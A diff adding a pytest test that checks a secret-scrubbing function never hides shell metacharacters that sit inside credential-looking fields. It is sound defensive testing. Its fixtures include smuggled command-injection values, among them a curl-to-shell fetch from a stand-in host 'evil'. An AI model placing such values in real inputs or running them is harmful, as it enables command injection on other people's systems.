@@ -88,6 +88,26 @@ def test_ordinary_text_stays_as_it_is(text: str) -> None:
     assert scrub(text) == text
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        'x password="abcdef$(curl${IFS}evil|sh)"',
+        'password="abcdefgh;/tmp/evil"',
+        "password='abcdefgh`id`'",
+        "curl postgres://ada:x$(id)@db",
+        "curl postgres://ada:x;id@db",
+        "Authorization: bearer\n/tmp/evil/evil0123456789",
+        "echo password:\n/tmp/evil/evil0123456789",
+        "a;pwd=abc|/tmp/evil",
+    ],
+)
+def test_no_command_is_hidden_from_a_question(text: str) -> None:
+    shown = scrub(text)
+
+    for part in ("$(", "`", ";", "|", "\n/tmp/evil", "IFS"):
+        assert (part in shown) == (part in text)
+
+
 def test_pictures_and_hashes_stay_as_they_are() -> None:
     picture = base64.b64encode(random.Random(1).randbytes(300_000)).decode()
     hashes = " ".join(f"{random.Random(n).getrandbits(256):064x}" for n in range(2_000))
